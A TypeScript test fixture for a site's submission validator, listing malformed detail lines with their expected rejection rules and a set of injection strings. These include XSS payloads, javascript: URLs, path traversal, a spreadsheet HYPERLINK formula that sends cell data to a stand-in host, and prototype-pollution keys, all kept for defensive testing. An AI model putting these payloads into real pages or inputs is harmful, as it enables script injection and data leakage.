/** A line of details that no submission may have, the rule that refuses it, and the column. */
export type HostileDetail = readonly [line: string, rule: string, column: number];

export const HOSTILE_DETAILS: readonly HostileDetail[] = [
  ['resources: [{ label: a, type: document, url: "javascript:alert(1)" }]', 'schema-value', 46],
  ['resources: [{ label: a, type: document, url: "data:text/html,x" }]', 'schema-value', 46],
  ['resources: [{ label: a, type: document, url: //a.example/ }]', 'schema-value', 46],
  ['replaces: [../../etc]', 'schema-value', 12],
  ['replaces: ["a/b"]', 'schema-value', 12],
  ['team: "a\\nb"', 'schema-value', 7],
  ['team: "a\\u202eb"', 'text-hidden-character', 7],
  ['layout: ../../x.astro', 'schema-unknown-field', 1],
  ['"set:html": <b>', 'schema-unknown-field', 1],
];

/**
 * Words that are legal in details, since they are words. Each would leave a mark if a page, its
 * data, its script or the search index ever took it for more.
 */
export const HOSTILE_WORDS: readonly string[] = [
  '<img src=x onerror="globalThis.__ran=1">',
  '<script>globalThis.__ran=1</script>',
  '</script><script>globalThis.__ran=1</script>',
  '</title><svg onload=globalThis.__ran=1>',
  '" onmouseover="globalThis.__ran=1" autofocus onfocus="globalThis.__ran=1',
  "' onmouseover='globalThis.__ran=1' x='",
  '<!--<script>globalThis.__ran=1',
  '--><img src=x onerror=globalThis.__ran=1>',
  '&lt;img src=x onerror=globalThis.__ran=1&gt;',
  ']]><img src=x onerror=globalThis.__ran=1>',
  '${globalThis.__ran=1} {globalThis.__ran=1} {{globalThis.__ran=1}}',
  '[a](javascript:globalThis.__ran=1) ![b](https://elsewhere.example/b.png)',
  '=HYPERLINK("https://elsewhere.example/?"&A1)',
  '__proto__',
  'constructor',
];
